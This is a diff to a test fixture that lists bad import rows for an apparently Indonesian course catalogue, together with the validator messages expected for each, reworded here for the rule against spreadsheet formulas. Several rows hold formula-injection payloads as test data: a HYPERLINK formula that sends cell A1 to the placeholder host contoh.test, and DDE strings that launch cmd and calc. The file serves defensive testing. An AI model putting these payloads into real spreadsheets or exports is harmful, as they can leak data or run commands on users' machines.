@@ -65,19 +65,19 @@ BAD_ROWS = [
     (333, {"price": "-450000"}, "price",
      "Type the price in whole rupiah, digits only (for example 450000)."),
     (512, {"title": '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")'}, "title",
-     "A text can't start with =, +, - or @: spreadsheets run such a cell as a formula. "
-     "Start it with a letter or a digit."),
+     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
+     "it): start it with a letter or a digit."),
     (700, {"summary": "+cmd|' /C calc'!A0 ringkasan yang berbahaya"}, "summary",
-     "A text can't start with =, +, - or @: spreadsheets run such a cell as a formula. "
-     "Start it with a letter or a digit."),
+     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
+     "it): start it with a letter or a digit."),
     (901, {"outcomes": "Mencatat transaksi\n@SUM(1+1)*cmd|' /C calc'!A0"}, "outcomes",
-     "A text can't start with =, +, - or @: spreadsheets run such a cell as a formula. "
-     "Start it with a letter or a digit."),
+     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
+     "it): start it with a letter or a digit."),
     (1002, {"description": "x" * 10001}, "description",
      "Write %(shortest)s to %(longest)s characters."),
     (1203, {"modules": "Pengantar | 60; -2+3+cmd | 60"}, "modules",
-     "A text can't start with =, +, - or @: spreadsheets run such a cell as a formula. "
-     "Start it with a letter or a digit."),
+     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
+     "it): start it with a letter or a digit."),
     (1404, {"method": "telepati"}, "method", "Choose how the course is taught."),
     (1499, {"modules": "Pengantar | 7"}, "modules",
      "A module lasts at least %(shortest)s minutes, in steps of %(step)s minutes."),
